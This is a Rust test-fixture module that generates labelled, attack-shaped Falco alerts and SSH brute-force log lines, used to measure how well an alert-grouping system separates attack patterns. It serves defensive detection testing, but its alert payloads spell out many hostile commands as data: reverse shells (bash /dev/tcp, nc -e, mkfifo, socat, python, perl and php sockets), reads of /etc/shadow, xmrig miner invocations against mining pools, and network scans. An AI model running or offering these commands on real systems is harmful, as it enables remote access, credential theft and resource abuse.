//! Labelled bursts of known attack patterns, for checking how alert grouping
//! separates them (tests/grouping.rs, `cargo bench --bench grouping`).
//!
//! Each burst is one attack technique written many ways, the way an attacker
//! rephrases to dodge keyword rules: credential reads (`cat`, `tail -n 10`, `dd`,
//! `base64` … of /etc/shadow), reverse shells (bash `/dev/tcp`, `nc -e`, a mkfifo
//! pipe, python/perl/php sockets, base64-wrapped), cryptominers, network scans
//! inside containers (Falco alerts on the shape of tests/fixtures/falco), and an
//! SSH brute force (sshd and PAM lines in the log envelope). Variants are chosen by
//! a fixed-seed generator, so every run publishes the same messages.

use chrono::{DateTime, Duration, Utc};
use palisade_core::model::Decoded;
use palisade_embeddings::policy::{self, VectorPolicy};
use palisade_embeddings::text;
use serde_json::json;

/// One message to publish and the pattern it belongs to.
#[derive(Debug, Clone, PartialEq)]
pub struct Labelled {
    /// NATS subject.
    pub subject: &'static str,
    /// The message body.
    pub payload: String,
    /// The attack pattern (a Falco rule for fixture alerts).
    pub pattern: String,
}

/// A tiny fixed-seed generator (SplitMix64): the same variants every run.
struct Picks(u64);

impl Picks {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn ip(&mut self) -> String {
        format!(
            "{}.{}.{}.{}",
            self.pick(&["185", "45", "203", "91", "198"]),
            self.below(250) + 1,
            self.below(250) + 1,
            self.below(250) + 1
        )
    }
}

/// The patterns [`attack_bursts`] generates.
pub const PATTERNS: &[&str] = &[
    "credential read",
    "reverse shell",
    "cryptominer",
    "network scan in container",
    "ssh brute force",
];

/// A Falco alert in Falco's own JSON, as on `security.falco.alerts`.
#[allow(clippy::too_many_arguments)]
fn falco_alert(
    rule: &str,
    priority: &str,
    sentence: &str,
    ts: DateTime<Utc>,
    cmdline: &str,
    parent: &str,
    file: Option<&str>,
    container: &str,
) -> String {
    let name = cmdline.split_whitespace().next().unwrap_or("sh");
    let name = name.rsplit('/').next().unwrap_or(name);
    let mut fields = json!({
        "container.id": container,
        "evt.time": ts.timestamp_nanos_opt().unwrap_or(0),
        "proc.cmdline": cmdline,
        "proc.name": name,
        "proc.pname": parent,
        "user.name": "root",
    });
    if let Some(file) = file {
        fields["fd.name"] = json!(file);
    }
    let output = format!(
        "{}: {priority} {sentence} (user=root command={cmdline} parent={parent}{} container_id={container})",
        ts.format("%H:%M:%S%.9f"),
        file.map(|f| format!(" file={f}")).unwrap_or_default()
    );
    json!({
        "output": output,
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["generated"],
        "time": ts.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true),
        "output_fields": fields,
    })
    .to_string()
}

/// `per_pattern` events of each of [`PATTERNS`], their times spread over the hour
/// from `start`, interleaved in time order.
pub fn attack_bursts(start: DateTime<Utc>, per_pattern: usize) -> Vec<Labelled> {
    let mut picks = Picks(0x0005_EED0_FA11_CE00);
    let mut out: Vec<(DateTime<Utc>, Labelled)> = Vec::new();
    let containers = ["3f2a9c1b7d10", "a81c44e0f932", "0c9d2e7b55a1", "host"];
    let step = |i: usize, offset: i64| {
        start + Duration::milliseconds(offset + (i as i64) * 3_600_000 / per_pattern.max(1) as i64)
    };
    for i in 0..per_pattern {
        // Credential reads, rephrased.
        let ts = step(i, 0);
        let file = picks.pick(&["/etc/shadow", "/etc/gshadow", "/etc/sudoers"]);
        let command = match picks.below(12) {
            0 => format!("cat {file}"),
            1 => format!("tail -n {} {file}", picks.below(40) + 1),
            2 => format!("head -c {} {file}", (picks.below(8) + 1) * 512),
            3 => format!("less {file}"),
            4 => format!("grep -v nologin {file}"),
            5 => format!("awk -F: '{{print $1\":\"$2}}' {file}"),
            6 => format!("cp {file} /tmp/.{}", picks.below(1000)),
            7 => format!(
                "dd if={file} of=/dev/stdout bs={}",
                (picks.below(4) + 1) * 1024
            ),
            8 => format!("base64 -w0 {file}"),
            9 => format!("sed -n 1,{}p {file}", picks.below(30) + 1),
            10 => format!("python3 -c print(open('{file}').read())"),
            _ => format!("xxd {file}"),
        };
        let container = picks.pick(&containers);
        out.push((
            ts,
            Labelled {
                subject: "security.falco.alerts",
                payload: falco_alert(
                    "Read sensitive file untrusted",
                    "Warning",
                    "Sensitive file opened for reading by non-trusted program",
                    ts,
                    &command,
                    picks.pick(&["bash", "sh", "sudo", "python3"]),
                    Some(file),
                    container,
                ),
                pattern: PATTERNS[0].into(),
            },
        ));

        // Reverse shells, obfuscated.
        let ts = step(i, 1_000);
        let (ip, port) = (picks.ip(), 1024 + picks.below(60_000));
        let command = match picks.below(10) {
            0 => format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
            1 => format!("sh -i >& /dev/udp/{ip}/{port} 0>&1"),
            2 => format!("nc -e /bin/sh {ip} {port}"),
            3 => format!("ncat {ip} {port} -e /bin/bash"),
            4 => format!("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f"),
            5 => format!("socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}"),
            6 => format!(
                "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
            ),
            7 => format!(
                "perl -e use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\")"
            ),
            8 => format!(
                "php -r $sock=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");"
            ),
            _ => format!("bash -c {{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8{}}}|{{base64,-d}}|{{bash,-i}}", picks.below(100_000)),
        };
        out.push((
            ts,
            Labelled {
                subject: "security.falco.alerts",
                payload: falco_alert(
                    "Redirect STDOUT/STDIN to Network Connection in Container",
                    "Notice",
                    "Redirect stdout/stdin to network connection",
                    ts,
                    &command,
                    picks.pick(&["bash", "sh", "python3", "node", "java"]),
                    Some(&format!("{ip}:{port}")),
                    picks.pick(&containers[..3]),
                ),
                pattern: PATTERNS[1].into(),
            },
        ));

        // Cryptominers.
        let ts = step(i, 2_000);
        let pool = picks.pick(&[
            "pool.minexmr.com:4444",
            "xmr.pool.gntl.co.uk:10009",
            "gulf.moneroocean.stream:10128",
            "stratum+tcp://xmr-eu1.nanopool.org:14444",
        ]);
        let command = match picks.below(4) {
            0 => format!(
                "xmrig -o {pool} -u 4{} -p x --donate-level 1",
                picks.below(1 << 40)
            ),
            1 => format!(
                "./xmrig --url={pool} --user=4{} -k --coin monero",
                picks.below(1 << 40)
            ),
            2 => format!("/tmp/.X11-unix/kworker -o {pool} -B --cpu-max-threads-hint=75"),
            _ => format!(
                "minerd -a cryptonight -o {pool} -u {} -p x",
                picks.below(1 << 30)
            ),
        };
        out.push((
            ts,
            Labelled {
                subject: "security.falco.alerts",
                payload: falco_alert(
                    "Detect crypto miners using the Stratum protocol",
                    "Critical",
                    "Possible miner running",
                    ts,
                    &command,
                    picks.pick(&["sh", "bash", "cron"]),
                    None,
                    picks.pick(&containers),
                ),
                pattern: PATTERNS[2].into(),
            },
        ));

        // Network scans from inside a container.
        let ts = step(i, 3_000);
        let net = format!("10.{}.{}.0/24", picks.below(255), picks.below(255));
        let command = match picks.below(6) {
            0 => format!("nmap -sS -p 1-1024 {net}"),
            1 => format!("nmap -sV -T4 --top-ports 100 {net}"),
            2 => format!(
                "masscan {net} -p0-65535 --rate {}",
                (picks.below(9) + 1) * 1000
            ),
            3 => format!("zmap -p 22 {net}"),
            4 => format!(
                "nc -zv {} 20-{}",
                net.replace(".0/24", ".1"),
                100 + picks.below(2000)
            ),
            _ => format!("nmap -Pn -p 22,80,443,6443,10250 {net}"),
        };
        out.push((
            ts,
            Labelled {
                subject: "security.falco.alerts",
                payload: falco_alert(
                    "Launch Suspicious Network Tool in Container",
                    "Notice",
                    "Network tool launched in container",
                    ts,
                    &command,
                    picks.pick(&["bash", "sh"]),
                    None,
                    picks.pick(&containers[..3]),
                ),
                pattern: PATTERNS[3].into(),
            },
        ));

        // SSH brute force, one log envelope per attempt.
        let ts = step(i, 4_000);
        let (ip, port) = (picks.ip(), 30_000 + picks.below(30_000));
        let user = picks.pick(&[
            "root", "admin", "oracle", "ubuntu", "test", "git", "postgres", "pi",
        ]);
        let message = match picks.below(4) {
            0 => format!("Failed password for invalid user {user} from {ip} port {port} ssh2"),
            1 => format!("Failed password for root from {ip} port {port} ssh2"),
            2 => format!("Invalid user {user} from {ip} port {port}"),
            _ => format!(
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"
            ),
        };
        let envelope = json!({
            "v": 1,
            "ts": ts.to_rfc3339(),
            "host": format!("bastion-{:02}", picks.below(4) + 1),
            "agent_id": "bursts",
            "source": "auth",
            "lines": [{"ts": ts.to_rfc3339(), "message": message, "program": "sshd",
                       "pid": 1000 + picks.below(50_000)}],
        });
        out.push((
            ts,
            Labelled {
                subject: "logs.auth",
                payload: envelope.to_string(),
                pattern: PATTERNS[4].into(),
            },
        ));
    }
    out.sort_by_key(|(ts, _)| *ts);
    out.into_iter().map(|(_, l)| l).collect()
}

/// Falco's JSON alerts (one per line) labelled by their rule.
pub fn falco_by_rule(jsonl: &str) -> Vec<Labelled> {
    jsonl
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|line| {
            let rule = serde_json::from_str::<serde_json::Value>(line)
                .ok()
                .and_then(|v| v["rule"].as_str().map(str::to_owned))
                .unwrap_or_default();
            Labelled {
                subject: "security.falco.alerts",
                payload: line.to_owned(),
                pattern: rule,
            }
        })
        .collect()
}

/// An embedded event of a labelled message: what the vectors projection makes of it.
#[derive(Debug, Clone, PartialEq)]
pub struct LabelledText {
    /// The event's message.
    pub message: String,
    /// Its time.
    pub ts: DateTime<Utc>,
    /// Its embedding text.
    pub text: String,
    /// The pattern of the message it came from.
    pub pattern: String,
}

/// The events of `messages` that the default vector policy embeds, with their
/// embedding texts, decided independently of the projection.
pub fn embedded(messages: &[Labelled]) -> Vec<LabelledText> {
    let policy = VectorPolicy::default();
    let mut out = Vec::new();
    for message in messages {
        let Ok(Decoded::Events(events)) =
            palisade_core::decode::decode(message.subject, message.payload.as_bytes())
        else {
            continue;
        };
        for event in &events {
            let view = palisade_consumers::vectors::view(event);
            if policy::decide(&policy, &view).embed {
                out.push(LabelledText {
                    message: event.message.clone(),
                    ts: event.ts,
                    text: text::embedding_text(&view),
                    pattern: message.pattern.clone(),
                });
            }
        }
    }
    out
}

/// Purity of a grouping: each group counts its most common pattern's members,
/// over all members (1 when no group mixes patterns).
pub fn purity<G: std::hash::Hash + Eq, P: std::hash::Hash + Eq>(
    members: impl IntoIterator<Item = (G, P)>,
) -> f64 {
    use std::collections::HashMap;
    let mut counts: HashMap<G, HashMap<P, u64>> = HashMap::new();
    let mut total = 0u64;
    for (group, pattern) in members {
        *counts.entry(group).or_default().entry(pattern).or_default() += 1;
        total += 1;
    }
    if total == 0 {
        return 1.0;
    }
    let majority: u64 = counts
        .values()
        .map(|patterns| patterns.values().copied().max().unwrap_or(0))
        .sum();
    majority as f64 / total as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    #[test]
    fn bursts_are_fixed_labelled_and_decodable() {
        let start = Utc.with_ymd_and_hms(2026, 11, 20, 10, 0, 0).unwrap();
        let a = attack_bursts(start, 20);
        assert_eq!(a, attack_bursts(start, 20));
        assert_eq!(a.len(), 100);
        for pattern in PATTERNS {
            assert_eq!(a.iter().filter(|l| l.pattern == *pattern).count(), 20);
        }
        let texts = embedded(&a);
        // Every generated event is one the policy embeds.
        assert_eq!(texts.len(), 100);
        let distinct: std::collections::HashSet<&str> =
            texts.iter().map(|t| t.text.as_str()).collect();
        assert!(distinct.len() > 60, "{} distinct texts", distinct.len());
    }

    #[test]
    fn purity_counts_majorities() {
        assert_eq!(purity([(1, "a"), (1, "a"), (2, "b"), (2, "b")]), 1.0);
        assert_eq!(purity([(1, "a"), (1, "a"), (1, "b"), (2, "b")]), 0.75);
        assert_eq!(purity(Vec::<(u8, u8)>::new()), 1.0);
    }
}
